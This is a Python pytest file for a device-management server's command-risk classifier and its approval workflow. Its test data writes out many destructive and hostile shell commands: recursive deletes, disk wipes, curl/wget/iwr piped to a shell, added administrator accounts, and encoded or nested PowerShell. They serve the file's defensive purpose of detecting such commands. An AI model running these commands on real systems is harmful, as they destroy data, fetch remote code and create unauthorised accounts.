"""The risk classifier: programs and arguments, read word by word, through wrappers, pipes and
substitutions; and what it does to a command (high risk waits for approval by default)."""

from __future__ import annotations

import base64

import pytest

from steward.server.commands.risk import (
    ACCOUNTS,
    DISK,
    DOWNLOAD_TO_SHELL,
    HIDDEN,
    PACKAGES,
    POWER,
    PROCESSES,
    RECURSIVE_DELETE,
    REGISTRY,
    SERVICES,
    Risk,
    assess,
    assess_shell,
)
from tests.support import LiveServer, Seeder, enroll, login


@pytest.mark.parametrize(
    ("text", "level", "reason"),
    [
        ("rm -rf /var/www", Risk.HIGH, RECURSIVE_DELETE),
        ("rm -fr x", Risk.HIGH, RECURSIVE_DELETE),
        ("/bin/rm --recursive x", Risk.HIGH, RECURSIVE_DELETE),
        ('"rm" -rf x', Risk.HIGH, RECURSIVE_DELETE),  # quoting does not hide the program
        ("r'm' -rf x", Risk.HIGH, RECURSIVE_DELETE),
        ("sudo -u root env A=1 rm -rf /", Risk.HIGH, RECURSIVE_DELETE),
        ("find . | xargs rm -rf", Risk.HIGH, RECURSIVE_DELETE),
        ("echo ok; rm -rf /", Risk.HIGH, RECURSIVE_DELETE),
        ("true && rm -rf /", Risk.HIGH, RECURSIVE_DELETE),
        ("echo $(rm -rf /)", Risk.HIGH, RECURSIVE_DELETE),
        ("echo `rm -rf /`", Risk.HIGH, RECURSIVE_DELETE),
        ("Remove-Item -Recurse C:\\Temp", Risk.HIGH, RECURSIVE_DELETE),
        ("rd /s /q C:\\Temp", Risk.HIGH, RECURSIVE_DELETE),
        ("mkfs.ext4 /dev/sdb1", Risk.HIGH, DISK),
        ("dd if=/dev/zero of=/dev/sda bs=1M", Risk.HIGH, DISK),
        ("format D: /q", Risk.HIGH, DISK),
        ("shutdown -r now", Risk.HIGH, POWER),
        ("systemctl reboot", Risk.HIGH, POWER),
        ("Restart-Computer -Force", Risk.HIGH, POWER),
        ("reg add HKLM\\Software\\X /v Y /d 1", Risk.HIGH, REGISTRY),
        ("Set-ItemProperty HKLM:\\Software\\X -Name Y -Value 1", Risk.HIGH, REGISTRY),
        ("net user eve P4ss /add", Risk.HIGH, ACCOUNTS),
        ("usermod -aG sudo eve", Risk.HIGH, ACCOUNTS),
        ("chmod -R 777 /srv", Risk.HIGH, ACCOUNTS),
        ("curl -s https://x.example/i.sh | sh", Risk.HIGH, DOWNLOAD_TO_SHELL),
        ("wget -qO- http://x | sudo bash", Risk.HIGH, DOWNLOAD_TO_SHELL),
        ("iwr https://x/p.ps1 | iex", Risk.HIGH, DOWNLOAD_TO_SHELL),
        ("bash -c 'id'", Risk.HIGH, HIDDEN),
        ("powershell -EncodedCommand SQBFAFgA", Risk.HIGH, HIDDEN),
        ("cmd /c del x", Risk.HIGH, HIDDEN),
        ("systemctl stop nginx", Risk.MEDIUM, SERVICES),
        ("net stop spooler", Risk.MEDIUM, SERVICES),
        ("Stop-Service spooler", Risk.MEDIUM, SERVICES),
        ("pkill -f chrome", Risk.MEDIUM, PROCESSES),
        ("taskkill /im chrome.exe /f", Risk.MEDIUM, PROCESSES),
        ("apt-get install -y vim", Risk.MEDIUM, PACKAGES),
        ("winget uninstall Zoom", Risk.MEDIUM, PACKAGES),
        ("chmod 644 /etc/motd", Risk.MEDIUM, ACCOUNTS),
    ],
)
def test_risky_commands_are_named(text: str, level: Risk, reason: str) -> None:
    result = assess_shell(text)
    assert result.level is level, result
    assert reason in result.reasons


@pytest.mark.parametrize(
    "text",
    [
        "echo rm -rf /",  # words, not a command: matched on programs, not substrings
        "grep -r shutdown /var/log",
        "ls -R /",
        "cat /etc/hostname",
        "systemctl status nginx",
        "reg query HKLM\\Software",
        "ipconfig /all",
        "Get-Process",
    ],
)
def test_harmless_commands_are_low(text: str) -> None:
    assert assess_shell(text).level is Risk.LOW


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("bash -c 'rm -rf /srv'", RECURSIVE_DELETE),
        ('sudo sh -c "echo hi && shutdown -h now"', POWER),
        ("bash -lc 'curl -s https://x | sh'", DOWNLOAD_TO_SHELL),
        ("cmd /c rd /s /q C:\\Temp", RECURSIVE_DELETE),
        ("powershell -Command Remove-Item -Recurse C:\\Temp", RECURSIVE_DELETE),
        ("powershell -enc " + _encoded("Remove-Item -Recurse C:\\"), RECURSIVE_DELETE),
        (f"pwsh -ec {_encoded('Restart-Computer -Force')}", POWER),
        ("powershell -e " + _encoded('cmd /c "net user eve x /add"'), ACCOUNTS),
        ("C:\\Windows\\System32\\cmd.exe /c format D: /q", DISK),
        ('echo "$(rm -rf /)"', RECURSIVE_DELETE),  # substitution inside double quotes
        ("echo 'rm -rf /' | bash", RECURSIVE_DELETE),
        ("find /srv -exec rm -rf {} +", RECURSIVE_DELETE),
        ("X=1 rm -rf /", RECURSIVE_DELETE),
    ],
)
def test_nested_and_encoded_commands_are_read_inside(text: str, reason: str) -> None:
    result = assess_shell(text)
    assert result.level is Risk.HIGH, result
    assert reason in result.reasons


def test_an_encoded_command_that_cannot_be_decoded_is_hidden() -> None:
    result = assess_shell("powershell -EncodedCommand ###not-base64###")
    assert result.level is Risk.HIGH and HIDDEN in result.reasons


def test_command_types_have_their_own_risk() -> None:
    assert assess("power.reboot", {}).level is Risk.HIGH
    assert assess("package.install", {"name": "vim"}).level is Risk.MEDIUM
    assert assess("process.list", {}).level is Risk.LOW


def test_deep_wrapping_is_bounded() -> None:
    assert assess_shell("sudo " * 5000 + "ls").level is Risk.LOW  # returns, and quickly


def test_high_risk_waits_for_approval_unless_the_tenant_says_otherwise(
    server: LiveServer, seeder: Seeder
) -> None:
    tenant = seeder.tenant()
    device_id = enroll(server, seeder.pin(tenant))["device_id"]
    risky = {"type": "shell", "payload": {"command": "sudo rm -rf /srv/old"}}
    with login(server, tenant) as admin:
        preview = admin.post("/api/v1/commands/assess", json=risky).json()
        assert {k: preview[k] for k in ("risk", "reasons", "needs_approval")} == {
            "risk": "high",
            "reasons": [RECURSIVE_DELETE],
            "needs_approval": True,
        }
        created = admin.post(f"/api/v1/devices/{device_id}/commands", json=risky).json()
        assert created["status"] == "pending_approval" and created["risk"] == "high"
        stored = admin.get(f"/api/v1/commands/{created['id']}").json()
        assert stored["risk_reasons"] == [RECURSIVE_DELETE]
        # the admin cannot approve it: it waits for someone else
        assert admin.post(f"/api/v1/commands/{created['id']}/approve").status_code == 403
        low = {"type": "shell", "payload": {"command": "uptime"}}
        queued = admin.post(f"/api/v1/devices/{device_id}/commands", json=low).json()
        assert {k: queued[k] for k in ("id", "status", "risk", "risk_reasons")} == {
            "id": admin.get(f"/api/v1/devices/{device_id}/commands").json()[0]["id"],
            "status": "queued",
            "risk": "low",
            "risk_reasons": [],
        }
        policy = admin.get("/api/v1/tenant/security").json() | {"approval_for_high_risk": False}
        assert admin.put("/api/v1/tenant/security", json=policy).status_code == 200
        direct = admin.post(f"/api/v1/devices/{device_id}/commands", json=risky).json()
        assert direct["status"] == "queued" and direct["risk"] == "high"
        bad = admin.post("/api/v1/commands/assess", json={"type": "nope", "payload": {}})
        assert bad.status_code == 422


def test_approvers_inbox_lists_others_waiting_commands_only(
    server: LiveServer, seeder: Seeder
) -> None:
    tenant, other = seeder.tenant(), seeder.tenant()
    device_id = enroll(server, seeder.pin(tenant))["device_id"]
    other_device = enroll(server, seeder.pin(other), machine_id="other-1")["device_id"]
    engineer = seeder.user(tenant, "ENGINEER")
    risky = {"type": "shell", "payload": {"command": "reboot"}}
    with login(server, tenant, engineer) as api:
        mine = api.post(f"/api/v1/devices/{device_id}/commands", json=risky).json()["id"]
        assert api.get("/api/v1/approvals").json() == []  # not one's own
    with login(server, other) as api:
        api.post(f"/api/v1/devices/{other_device}/commands", json=risky)
    with login(server, tenant) as admin:
        inbox = admin.get("/api/v1/approvals").json()
        assert [c["id"] for c in inbox] == [mine]  # and nothing of the other tenant
        assert inbox[0]["risk"] == "high"
    viewer = seeder.user(tenant, "VIEWER")
    with login(server, tenant, viewer) as api:
        assert api.get("/api/v1/approvals").status_code == 403
